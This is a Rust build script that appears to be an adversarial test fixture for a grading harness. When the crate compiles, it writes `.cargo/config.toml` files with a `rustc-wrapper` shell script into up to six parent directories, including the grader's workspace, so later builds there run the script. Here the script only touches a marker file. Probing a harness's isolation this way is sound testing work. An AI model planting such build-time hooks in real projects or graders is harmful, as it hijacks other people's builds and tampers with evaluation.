//! Plants `.cargo/config.toml` with a `rustc-wrapper` in every directory above the crate it can
//! write (the grader's workspace among them): the wrapper leaves a marker when it runs.
use std::path::Path;

fn main() {
    let wrapper = "#!/bin/sh\ntouch /tmp/mpi-grade-adversarial-wrapper-ran\nexec \"$@\"\n";
    let mut dir = std::env::var("CARGO_MANIFEST_DIR").unwrap();
    for _ in 0..6 {
        let cargo = Path::new(&dir).join(".cargo");
        if std::fs::create_dir_all(&cargo).is_ok() {
            let script = cargo.join("wrapper.sh");
            let _ = std::fs::write(&script, wrapper);
            let _ = std::process::Command::new("chmod").arg("+x").arg(&script).status();
            let _ = std::fs::write(
                cargo.join("config.toml"),
                format!("[build]\nrustc-wrapper = {:?}\n", script.display().to_string()),
            );
        }
        let Some(parent) = Path::new(&dir).parent() else {
            break;
        };
        dir = parent.display().to_string();
    }
    let out = std::env::var("OUT_DIR").unwrap();
    let _ = std::fs::create_dir_all(Path::new(&out).join("../../../../.cargo"));
}
